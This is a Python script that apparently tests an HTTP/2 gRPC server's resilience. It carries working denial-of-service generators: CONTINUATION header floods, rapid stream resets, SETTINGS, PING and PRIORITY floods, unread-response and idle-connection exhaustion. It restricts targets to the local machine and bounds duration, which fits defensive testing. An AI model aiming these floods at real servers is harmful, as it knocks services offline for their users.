"""What strangers may send to a server, against addresses of this machine alone:

    python3 attacks.py KIND ADDRESS SECONDS

ADDRESS is unix:PATH or 127.0.0.1:PORT. Each kind is bounded in connections, and ends by
itself after so many seconds. Standard library only. Frames are as RFC 9113 and headers as
RFC 7541 have them.
"""

import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, payload=b"", flags=0, stream=0):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    """A header that no table has: RFC 7541, 6.2.2, without Huffman's code."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request(path):
    headers = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": path,
        b":authority": b"a",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
    }
    return b"".join(literal(name, value) for name, value in headers.items())


BEGIN = PREFACE + frame(SETTINGS)
# Room for all that the server answers: RFC 9113, 6.5.2 and 6.9.
HUNGRY = (
    PREFACE
    + frame(SETTINGS, struct.pack(">HI", 4, 0x7FFFFFFF))
    + frame(WINDOW, struct.pack(">I", 0x7FFF0000))
)


def streams():
    return range(1, 1 << 31, 2)


def endless_header():
    yield BEGIN
    # A name of 2^31 bytes.
    yield frame(HEADERS, b"\0\x7f\x81\xff\xff\xff\x07" + b"a" * 1000, 0, 1)
    while True:
        yield frame(CONTINUATION, b"a" * 16384, 0, 1)


def dripping_header():
    """The same in small pieces: a parser that begins anew with each reads them all again."""
    yield BEGIN
    yield frame(HEADERS, b"\0\x7f\x81\xff\xff\xff\x07" + b"a" * 1000, 0, 1)
    while True:
        yield frame(CONTINUATION, b"a" * 64, 0, 1)


def empty_continuations():
    yield BEGIN
    yield frame(HEADERS, b"", 0, 1)
    while True:
        yield frame(CONTINUATION, b"", 0, 1) * 500


def resets(path=b"/none"):
    yield BEGIN
    block = request(path)
    pieces = b""
    for stream in streams():
        pieces += frame(HEADERS, block, END_HEADERS | END_STREAM, stream)
        pieces += frame(RESET, struct.pack(">I", 8), 0, stream)
        if len(pieces) > 30000:
            yield pieces
            pieces = b""


def calls():
    yield BEGIN
    block = request(b"/none")
    pieces = b""
    for stream in streams():
        pieces += frame(HEADERS, block, END_HEADERS | END_STREAM, stream)
        if len(pieces) > 30000:
            yield pieces
            pieces = b""


def settings():
    yield BEGIN
    while True:
        yield frame(SETTINGS, struct.pack(">HI", 4, 65535) * 20) * 100


def pings():
    yield BEGIN
    while True:
        yield frame(PING, b"12345678") * 1000


def priorities():
    yield BEGIN
    while True:
        yield frame(PRIORITY, struct.pack(">IB", 0, 1), 0, 1) * 1000


def empty_data():
    yield BEGIN
    yield frame(HEADERS, request(b"/grpc.health.v1.Health/Watch"), END_HEADERS, 1)
    while True:
        yield frame(DATA, b"", 0, 1) * 1000


def silent():
    return iter(())


def half_request():
    yield PREFACE


def unread_schedules():
    """Calls whose answers nobody reads."""
    yield HUNGRY
    block = request(b"/ballast.v1.ScheduleService/GetSchedule")
    for stream in streams():
        if stream > 2000:
            return
        yield frame(HEADERS, block, END_HEADERS, stream) + frame(
            DATA, b"\0\0\0\0\2\x08" + bytes([stream % 100]), END_STREAM, stream
        )


# Connections, what each sends, and whether they read what comes.
KINDS = {
    "endless_header": (16, endless_header, True),
    "dripping_header": (16, dripping_header, True),
    "empty_continuations": (16, empty_continuations, True),
    "resets": (4, resets, True),
    "calls": (16, calls, True),
    "unread_calls": (16, calls, False),
    "settings": (16, settings, True),
    "unread_settings": (16, settings, False),
    "pings": (16, pings, True),
    "priorities": (16, priorities, True),
    "empty_data": (16, empty_data, True),
    "unread_schedules": (12, unread_schedules, False),
    "silent": (1100, silent, False),
    "half_request": (400, half_request, False),
    # Each connection is closed at once, and followed by another.
    "connections": (16, None, False),
}


def connect(address):
    kind, _, path = address.partition(":")
    if kind == "unix":
        made = socket.socket(socket.AF_UNIX)
        made.settimeout(5)
        made.connect(path)
    else:
        host, _, port = address.rpartition(":")
        if host not in ("127.0.0.1", "[::1]", "localhost"):
            raise ValueError(f"{address} is not on this machine")
        made = socket.create_connection((host.strip("[]"), int(port)), timeout=5)
    return made


class Attacker:
    def __init__(self, address, sends, reads, context):
        self.socket = connect(address)
        if context is not None:
            self.socket = context.wrap_socket(self.socket)
        self.socket.setblocking(False)
        self.pieces, self.reads = sends(), reads
        self.left = next(self.pieces, b"")

    def act(self):
        """Sends and reads what can be; False once it is closed."""
        try:
            if self.reads:
                if self.socket.recv(1 << 16) == b"":
                    return False
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return False
        try:
            if self.left:
                self.left = self.left[self.socket.send(self.left) :]
            if not self.left:
                self.left = next(self.pieces, b"")
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            return False
        return True


def main():
    kind, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    context = None
    if len(sys.argv) > 4:  # the server's CA: over TLS
        context = ssl.create_default_context(cafile=sys.argv[4])
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
    count, sends, reads = KINDS[kind]
    end = time.monotonic() + seconds
    opened = 0
    if sends is None:
        print("begun", flush=True)
        while time.monotonic() < end and opened < 100_000:
            try:
                connect(address).close()
                opened += 1
            except OSError:
                pass
        print(f"{opened} connections")
        return
    attackers, lost, begun = [], 0, False
    waits = selectors.DefaultSelector()
    while time.monotonic() < end:
        # Those that the server has closed come again, as a stranger would.
        while len(attackers) < count and opened < 20 * count:
            opened += 1
            try:
                one = Attacker(address, sends, reads, context)
            except OSError:
                lost += 1
                break
            waits.register(one.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, one)
            attackers.append(one)
        if not begun:
            print("begun", flush=True)
            begun = True
        for key, _ in waits.select(
            0.05 if len(attackers) < count else max(end - time.monotonic(), 0)
        ):
            one = key.data
            if not one.act():
                waits.unregister(one.socket)
                one.socket.close()
                attackers.remove(one)
            elif not one.left:  # nothing to send
                if one.reads:
                    waits.modify(one.socket, selectors.EVENT_READ, one)
                else:
                    waits.unregister(one.socket)
    print(f"{opened} connections, {lost} refused, {len(attackers)} open at the end")


if __name__ == "__main__":
    main()
